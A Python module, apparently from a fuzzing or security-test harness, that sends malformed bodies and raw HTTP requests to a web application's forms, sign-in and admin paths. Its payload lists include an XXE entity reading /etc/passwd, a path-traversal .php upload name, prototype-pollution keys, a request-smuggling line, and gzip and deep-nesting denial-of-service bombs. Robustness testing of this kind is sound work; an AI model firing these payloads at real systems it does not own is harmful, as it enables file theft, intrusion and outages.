"""Bodies and whole requests that no browser sends: broken, too large, in pieces, in the wrong clothes."""

import gzip
from random import Random

from scripts.hostile.bodies import BOUNDARY, MULTIPART, URLENCODED
from scripts.hostile.http_client import request
from scripts.hostile.marks import marked
from scripts.hostile.shots import Batch, Gun, Shot
from scripts.hostile.surface import Surface

JSON = b"application/json"
PART = b"--" + BOUNDARY + b"\r\nContent-Disposition: form-data; "
END = b"--" + BOUNDARY + b"--\r\n"
BODIES = [
    (URLENCODED, b"name=" + b"x" * 1_000_000),
    (URLENCODED, b"x" * 3_000_000),
    (URLENCODED, b"&".join(b"f%d=1" % number for number in range(5000))),
    (URLENCODED, b"a=1&" * 60_000),
    (URLENCODED, b"name=a&name=<MARK>&" * 100),
    (URLENCODED, b"name=%ff%fe%00%c3%28&phone=%80&q=%ED%A0%80&x=%u0041&%=%zz"),
    (URLENCODED, b"a[b][c]=1&__proto__[x]=MARK&constructor.prototype=1&a.b.c=1&=&&&==;"),
    (URLENCODED, b"[" * 20_000 + b"=1"),
    (URLENCODED, b"\0\0\0=\0"),
    (URLENCODED + b"; charset=utf-16", b"name=MARK"),
    (URLENCODED + b"; charset=idna", b"name=%ff.MARK"),
    (URLENCODED + b"; charset=unicode_escape", b"name=\\u003cMARK\\u003e"),
    (URLENCODED + b"; charset=zip", b"name=x"),
    (URLENCODED + b"; charset=utf-8; charset=utf-7", b"name=+ADw-MARK+AD4-"),
    (b"multipart/form-data", b"name=x"),
    (b"multipart/form-data; boundary=", b"----\r\n"),
    (b"multipart/form-data; boundary=" + b"b" * 300, b"--b\r\n"),
    (b"multipart/form-data; boundary=\xff\xfe", b"--\xff\xfe\r\n"),
    (b"multipart/form-data; boundary=a; charset=utf-16", b"--a\r\n"),
    (MULTIPART, b""),
    (MULTIPART, END),
    (MULTIPART, PART + b'name="name"\r\n\r\n<MARK>'),
    (MULTIPART, PART + b'name="name"'),
    (MULTIPART, PART + b"name=\r\n\r\n\r\n" + END),
    (MULTIPART, PART + b'filename="MARK"\r\n\r\nx\r\n' + END),
    (MULTIPART, PART + b'name="name"; filename="../../<MARK>.php"\r\nContent-Type: text/html\r\n\r\nx\r\n' + END),
    (MULTIPART, PART + b"name*=utf-16''%ff%fe; filename*=x'y'%00\r\n\r\nx\r\n" + END),
    (MULTIPART, PART + b'name="name"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!\r\n' + END),
    (MULTIPART, PART + b'name="name"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\n\xff\xfeM\r\n' + END),
    (MULTIPART, PART + b'name="name"\r\nContent-Length: 99999999999999999999\r\n\r\nx\r\n' + END),
    (MULTIPART, PART + b'name="n"\r\nX-A: ' + b"y" * 90_000 + b"\r\n\r\nx\r\n" + END),
    (MULTIPART, (PART + b'name="f"; filename="a"\r\n\r\nx\r\n') * 400 + END),
    (MULTIPART, (PART + b'name="f"\r\n\r\nx\r\n') * 4000 + END),
    (MULTIPART, b"multipart/mixed" * 999),
    (JSON, b'{"name": "<MARK>"}'),
    (JSON, b"[" * 100_000),
    (JSON, b'{"a":' * 50_000),
    (JSON, b"NaN"),
    (JSON, b'{"a": 1e999999, "b": ' + b"9" * 20_000 + b"}"),
    (b"text/xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    (b"text/plain", b"\0\0\0MARK"),
    (b"", b"x"),
    (b"<MARK>", b"x"),
    (b"application/x-www-form-urlencoded\xff", b"a=1"),
]
BOMB = gzip.compress(b"name=" + b"\0" * 20_000_000)
PLACES = ("/appointments/request/", "/contact/", "/sign-in/", "/", "/search/", "/nowhere/", "/healthz", "/admin/login/")
STAFF_PLACES = (
    ("/staff/chosen/", "manager"),
    ("/admin/publishing/synonym/add/", "admin"),
    ("/sign-in/still-here/", "manager"),
)
POSTED = b"POST /contact/ HTTP/1.1\r\nHost: HOST\r\n"
LINES = [
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\nHost: MARK.example\r\n\r\n",
    b"GET / HTTP/1.0\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: HOST\r\n\r\n",
    b"GET / MARK\r\nHost: HOST\r\n\r\n",
    b"GET /\r\n\r\n",
    b"G\xc3\x8bT / HTTP/1.1\r\nHost: HOST\r\n\r\n",
    b"get / HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
    b"GET  /  HTTP/1.1\r\nHost: HOST\r\n\r\n",
    b"GET /\x00MARK HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
    b"GET /a b HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost : HOST\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\n folded: MARK\r\nConnection: close\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\nX: a\x00b\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\n: MARK\r\n\r\n",
    b"GET / HTTP/1.1\nHost: HOST\nConnection: close\n\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5\r\n\r\na=MARK",
    b"GET /search/?q=a HTTP/1.1\r\nHost: HOST\r\nContent-Length: 8\r\nConnection: close\r\n\r\nq=MARK%3C",
    b"POSTEDContent-Length: -1\r\n\r\nx",
    b"POSTEDContent-Length: many\r\n\r\nx",
    b"POSTEDContent-Length: 1, 2\r\n\r\nx",
    b"POSTEDContent-Length: 1\r\nContent-Length: 9\r\n\r\nxMARK",
    b"POSTEDContent-Length: 99999999999999999999\r\nURLENCODED\r\n\r\nname=MARK",
    b"POSTEDContent-Length: 500\r\nURLENCODED\r\n\r\nname=MARK",
    b"POSTEDContent-Length: 500\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x",
    b"POSTEDTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /admin/ HTTP/1.1\r\n\r\n",
    b"POSTEDTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"POSTEDTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    b"POSTEDTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"POSTEDTransfer-Encoding: chunked\r\nURLENCODED\r\n\r\nZZ\r\nMARK\r\n0\r\n\r\n",
    b"POSTEDTransfer-Encoding: chunked\r\nURLENCODED\r\nConnection: close\r\n\r\n6\r\nname=<\r\n0\r\n\r\n",
    b"POSTEDTransfer-Encoding: chunked\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\nffffffffff\r\nx",
    b"POSTEDExpect: 100-continue\r\nContent-Length: 3\r\nConnection: close\r\n\r\na=1",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\r\n" * 300,
    b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\nGET / HTTP/1.1\r\nHost: HOST\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\n" + b"X: y\r\n" * 2000 + b"\r\n",
    b"GET / HTTP/1.1\r\nHost: HOST\r\nX: " + b"y" * 200_000 + b"\r\n\r\n",
]  # fmt: skip


def batches(surface: Surface) -> list[Batch]:
    made = [Batch("broken requests", lambda chance: broken(surface))]
    for path, visitor in [*((path, "") for path in PLACES), *STAFF_PLACES]:
        name = f"bodies at {path} as {visitor or 'a stranger'}"
        made.append(Batch(name, lambda chance, p=path, v=visitor, n=name: attack(surface, p, v, n, chance)))
    return made


def attack(surface: Surface, path: str, visitor: str, name: str, chance: Random):
    """Each body with each method that may bring one, and a bomb."""
    gun, own = Gun(name), surface.headers(visitor)
    for kind, body in BODIES:
        for method in ("POST", chance.choice(["PUT", "GET", "DELETE", "PATCH", "PROPFIND"])):
            yield gun.shot(
                method, path.encode(), [*own, (b"Content-Type", kind)], body, is_broken=len(body) > 2_000_000
            )
    bomb = [*own, (b"Content-Type", URLENCODED), (b"Content-Encoding", b"gzip")]
    yield gun.shot("POST", path.encode(), bomb, BOMB)
    yield gun.shot("POST", path.encode(), [*own, (b"Content-Type", MULTIPART), (b"Content-Encoding", b"gzip")], BOMB)


def broken(surface: Surface):
    """Whole requests, byte by byte; a server may close the connection in silence."""
    gun, host = Gun("broken requests"), f"{surface.host}:{surface.port}".encode()
    for line in LINES:
        raw = line.replace(b"POSTED", POSTED).replace(b"URLENCODED", b"Content-Type: " + URLENCODED)
        name = gun.next_name()
        yield Shot(name, "GET", marked(raw.replace(b"HOST", host), name), is_broken=True)
    yield Shot(gun.next_name(), "GET", request("GET", b"/", []), is_broken=True)
